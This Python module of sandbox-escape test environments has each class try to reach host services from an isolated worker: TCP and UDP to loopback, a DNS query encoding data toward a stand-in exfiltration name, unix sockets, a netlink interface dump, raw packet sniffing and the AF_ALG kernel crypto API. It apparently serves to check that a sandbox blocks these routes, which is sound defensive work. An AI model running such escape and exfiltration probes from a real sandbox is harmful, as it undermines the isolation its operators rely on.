"""The network, the host's local services and the kernel's other socket
families.

The worker has an empty network namespace (only a loopback that is
down, and its own abstract unix socket namespace), and seccomp lets
socket() make AF_UNIX sockets only: any other family is a violation
reported with its name. Host pathname sockets are not in the mount
namespace at all.
"""

from __future__ import annotations

import socket
import struct

from escape_envs.base import BAIT_DIR, EscapeEnv, say, try_each, won

# The tests' listeners (tests/hostile/sandbox/test_sandbox.py).
TCP_PORT = 47101
UDP_PORT = 47102
DNS_PORT = 53
ABSTRACT_NAME = b"\0gwbait-host-service"
SOCKET_PATH = f"{BAIT_DIR}/sock/host.sock"

AF_ALG = 38
NETLINK_ROUTE = 0
RTM_GETLINK = 18
NLM_F_REQUEST, NLM_F_DUMP = 1, 0x300
IFLA_IFNAME = 3
ETH_P_ALL = 0x0003


class TcpLoopbackEnv(EscapeEnv):
    """Connects to a host service on 127.0.0.1 (and on ::1) over TCP."""

    NAME = "tcp-loopback"

    def attempt(self):
        def connect6(port):
            with socket.create_connection(("::1", port), timeout=1) as s:
                s.sendall(b"gwbait tcp6 hello\n")

        try_each(self.NAME, "connect ::1", connect6, [TCP_PORT])
        with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1) as s:
            s.sendall(b"gwbait tcp hello\n")
            say(self.NAME, f"host said {s.recv(256)!r}")
        won(self.NAME, "reached a host TCP service")


class UdpLoopbackEnv(EscapeEnv):
    """Sends a datagram to a host service on 127.0.0.1."""

    NAME = "udp-loopback"

    def attempt(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"gwbait udp hello", ("127.0.0.1", UDP_PORT))
        won(self.NAME, "sent a datagram to the host")


def dns_query(name: str) -> bytes:
    header = struct.pack(">HHHHHH", 0x4757, 0x0100, 1, 0, 0, 0)
    labels = b"".join(
        bytes([len(part)]) + part.encode() for part in name.split(".")
    )
    return header + labels + b"\0" + struct.pack(">HH", 1, 1)


class DnsLoopbackEnv(EscapeEnv):
    """Asks a DNS server on 127.0.0.1:53 for a name that encodes data
    (the usual exfiltration channel), then tries the resolver too."""

    NAME = "dns-loopback"

    def attempt(self):
        try_each(
            self.NAME,
            "getaddrinfo",
            lambda n: socket.getaddrinfo(n, 80),
            ["exfil-gwbait.invalid"],
        )
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.sendto(dns_query("exfil-gwbait.example"), ("127.0.0.1", DNS_PORT))
            say(self.NAME, f"answer {s.recv(512)!r}")
        won(self.NAME, "reached a DNS server")


class UnixAbstractEnv(EscapeEnv):
    """Connects to a host service's abstract unix socket (abstract names
    belong to the network namespace, not to the file system)."""

    NAME = "unix-abstract"

    def attempt(self):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect(ABSTRACT_NAME)
            s.sendall(b"gwbait abstract hello\n")
        won(self.NAME, "reached an abstract unix socket")


class UnixPathEnv(EscapeEnv):
    """Connects to a host service's pathname unix socket."""

    NAME = "unix-path"

    def attempt(self):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect(SOCKET_PATH)
            s.sendall(b"gwbait path hello\n")
        won(self.NAME, "reached a pathname unix socket")


def link_names(data: bytes) -> list[str]:
    """The IFLA_IFNAME of every RTM_NEWLINK message in a dump."""
    names, off = [], 0
    while off + 16 <= len(data):
        length, kind = struct.unpack_from("=IH", data, off)
        if length < 16:
            break
        if kind == 16:  # RTM_NEWLINK
            at = off + 16 + 16  # nlmsghdr, ifinfomsg
            while at + 4 <= off + length:
                alen, atype = struct.unpack_from("=HH", data, at)
                if alen < 4:
                    break
                if atype == IFLA_IFNAME:
                    names.append(data[at + 4 : at + alen].rstrip(b"\0").decode())
                at += (alen + 3) & ~3
        off += (length + 3) & ~3
    return names


class NetlinkEnv(EscapeEnv):
    """Opens an AF_NETLINK route socket and dumps the host's links."""

    NAME = "netlink"

    def attempt(self):
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_ROUTE)
        with s:
            s.settimeout(1)
            flags = NLM_F_REQUEST | NLM_F_DUMP
            req = struct.pack("=IHHII", 32, RTM_GETLINK, flags, 1, 0)
            s.send(req + struct.pack("=BxHiII", 0, 0, 0, 0, 0))
            data = s.recv(65536)
        names = link_names(data)
        say(self.NAME, "links " + "".join(f"iface={n};" for n in names))
        if any(n != "lo" for n in names):
            won(self.NAME, "saw the host's interfaces")
        return f"links {names}"


class PacketEnv(EscapeEnv):
    """Opens an AF_PACKET raw socket to sniff every frame."""

    NAME = "packet"

    def attempt(self):
        proto = socket.htons(ETH_P_ALL)
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, proto)
        with s:
            won(self.NAME, "a raw packet socket")


class AlgEnv(EscapeEnv):
    """Opens an AF_ALG socket (the kernel crypto API, a frequent source
    of kernel bugs) and binds it to sha256."""

    NAME = "alg"

    def attempt(self):
        s = socket.socket(AF_ALG, socket.SOCK_SEQPACKET, 0)
        with s:
            won(self.NAME, "an AF_ALG socket")
            s.bind(("hash", "sha256"))
            return "bound to sha256"
